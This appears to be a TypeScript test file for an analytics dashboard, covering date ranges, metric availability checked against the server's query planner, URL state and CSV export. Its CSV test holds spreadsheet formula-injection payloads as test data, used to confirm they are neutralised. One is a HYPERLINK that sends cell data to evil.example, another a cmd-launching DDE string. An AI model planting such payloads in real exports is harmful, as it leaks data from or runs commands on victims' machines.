// The dashboard's pure logic: its date ranges, its mirror of the one-dimension model (checked
// against the server's own query planner), its URL state and its CSV.
import { describe, expect, it } from 'vitest'
import { metricAvailable, METRICS, panelAvailable } from '../../dashboard/src/model.ts'
import { toCsv } from '../../dashboard/src/panels.ts'
import { PANELS } from '../../dashboard/src/panels.ts'
import { addMonths, previousRange, resolvePeriod } from '../../dashboard/src/periods.ts'
import { readState, writeState } from '../../dashboard/src/state.ts'
import type { Boot } from '../../dashboard/src/boot.ts'
import { plan, PlanError } from '../../server/stats/plan.ts'
import { queryRequest } from '../../server/stats/request.ts'

const TODAY = '2026-11-22'

describe('periods', () => {
  it('resolves every period to days of the server time zone, with a granularity', () => {
    const r = (p: Parameters<typeof resolvePeriod>[0], o = {}) => {
      const x = resolvePeriod(p, TODAY, o)
      return [x.from, x.to, x.granularity, x.apiRange]
    }
    expect(r('day')).toEqual([TODAY, TODAY, 'hour', 'day'])
    expect(r('yesterday')).toEqual(['2026-11-21', '2026-11-21', 'hour', 'yesterday'])
    expect(r('7d')).toEqual(['2026-11-16', TODAY, 'day', '7d'])
    expect(r('30d')).toEqual(['2026-10-24', TODAY, 'day', '30d'])
    expect(r('month')).toEqual(['2026-11-01', TODAY, 'day', 'month'])
    expect(r('lastmonth')).toEqual(['2026-10-01', '2026-10-31', 'day', ['2026-10-01', '2026-10-31']])
    expect(r('12mo')).toEqual(['2025-12-01', TODAY, 'month', '12mo'])
    expect(r('all', { created: '2025-03-04' })).toEqual(['2025-03-04', TODAY, 'month', 'all'])
    expect(r('all', { created: '2026-11-10' })).toEqual(['2026-11-10', TODAY, 'day', 'all'])
    expect(r('custom', { from: '2026-11-05', to: '2026-11-01' })).toEqual(['2026-11-01', '2026-11-05', 'day', ['2026-11-01', '2026-11-05']])
    expect(r('custom', { from: '2026-02-30', to: '2026-03-01' })).toEqual(['2026-10-24', TODAY, 'day', '30d'])
  })

  it('compares with the period just before, months moved by months', () => {
    const prev = (p: Parameters<typeof resolvePeriod>[0]) => previousRange(resolvePeriod(p, TODAY, { created: '2025-01-01' }))
    expect(prev('day')).toEqual({ from: '2026-11-21', to: '2026-11-21' })
    expect(prev('30d')).toEqual({ from: '2026-09-24', to: '2026-10-23' })
    expect(prev('month')).toEqual({ from: '2026-10-10', to: '2026-10-31' })
    expect(prev('lastmonth')).toEqual({ from: '2026-09-01', to: '2026-09-30' })
    expect(prev('12mo')).toEqual({ from: '2024-12-01', to: '2025-11-30' })
    expect(prev('all')).toBeUndefined()
    expect(addMonths('2026-03-31', -1)).toBe('2026-02-28')
    expect(addMonths('2024-02-29', 12)).toBe('2025-02-28')
  })
})

describe('the one-dimension model, as the server plans it', () => {
  const SITE = { domain: 'example.lv', settings: { sections: [], sectionsSince: '2026-11-20' } }
  const dims = [undefined, ...new Set(PANELS.flatMap((p) => p.views.map((v) => v.dim)))]
  for (const from of ['2026-11-01', '2026-11-21']) {
    it(`offers exactly the metrics the server answers (from ${from})`, () => {
      for (const dim of dims) {
        for (const metric of METRICS) {
          const body = { site_id: 'example.lv', date_range: '7d', metrics: [metric], ...(dim ? { filters: [['is', dim, ['x']]] } : {}) }
          let answered = true
          try {
            plan(queryRequest.parse(body), SITE, { from, to: '2026-11-22' })
          } catch (err) {
            if (!(err instanceof PlanError)) throw err
            answered = false
          }
          expect(metricAvailable(metric, dim, { from, sectionsSince: '2026-11-20' }), `${metric} with ${dim}`).toBe(answered)
        }
      }
    })
  }

  it('asks panels only for what the server answers', () => {
    for (const panel of PANELS) {
      for (const view of panel.views) {
        const metrics = view.metrics.filter((m) => metricAvailable(m, view.dim, { from: '2026-11-01' }))
        expect(metrics.length, view.id).toBeGreaterThan(0)
        const body = { site_id: 'example.lv', date_range: '7d', metrics, dimensions: [view.dim], filters: [['is', view.dim, ['x']], ...(view.filters ?? [])] }
        expect(() => plan(queryRequest.parse(body), SITE, { from: '2026-11-21', to: '2026-11-22' }), view.id).not.toThrow()
      }
    }
  })

  it('shows a panel under a filter only for the same dimension', () => {
    expect(panelAvailable('event:page', undefined)).toBe(true)
    expect(panelAvailable('event:page', { dim: 'event:page', value: '/' })).toBe(true)
    expect(panelAvailable('visit:source', { dim: 'event:page', value: '/' })).toBe(false)
    const body = { site_id: 'example.lv', date_range: '7d', metrics: ['visitors'], dimensions: ['visit:source'], filters: [['is', 'event:page', ['/']]] }
    expect(() => plan(queryRequest.parse(body), SITE, { from: '2026-11-21', to: '2026-11-22' })).toThrow(/no cross-tabulations/)
  })
})

describe('URL state', () => {
  const boot: Boot = { mode: 'app', lang: 'en', today: TODAY, hour: 10, sites: [{ domain: 'a.lv', created: '2026-01-01' }, { domain: 'b.lv', created: '2026-01-01' }] }
  it('round-trips a bookmarked view', () => {
    const search = '?site=b.lv&period=custom&from=2026-11-01&to=2026-11-05&f=event%3Apage%3D%2Fa%3Db&metric=pageviews&lang=lv'
    const s = readState(search, boot)
    expect(s).toEqual({ site: 'b.lv', period: 'custom', from: '2026-11-01', to: '2026-11-05', filter: { dim: 'event:page', value: '/a=b' }, metric: 'pageviews', lang: 'lv' })
    expect(readState(writeState(s, false), boot)).toEqual(s)
  })
  it('falls back to the first site and 30 days', () => {
    expect(readState('?site=evil.lv&period=nope&metric=x', boot)).toEqual({ site: 'a.lv', period: '30d', metric: 'visitors' })
    expect(writeState(readState('', boot), true)).toBe('')
  })
})

describe('CSV', () => {
  it('quotes what needs quoting and leaves numbers as the API sent them', () => {
    expect(toCsv(['page', 'visitors'], [['/a,b', 3], ['/"q"', null], ['/x', 1.5]])).toBe('page,visitors\r\n"/a,b",3\r\n"/""q""",\r\n/x,1.5\r\n')
  })

  it('neutralises text that a spreadsheet would run as a formula, never a number', () => {
    const rows: [string, number][] = [
      ['=HYPERLINK("http://evil.example/?"&A1,"x")', 1],
      ["+cmd|' /C calc'!A0", -2],
      ['-2+3', 3],
      ['@SUM(1)', 4],
      ['\t=1', 5],
      ['\r=1', 6],
    ]
    expect(toCsv(['name', 'visitors'], rows)).toBe(
      'name,visitors\r\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1\r\n` +
        "'+cmd|' /C calc'!A0,-2\r\n" +
        "'-2+3,3\r\n" +
        "'@SUM(1),4\r\n" +
        "'\t=1,5\r\n" +
        `"'\r=1",6\r\n`,
    )
  })
})
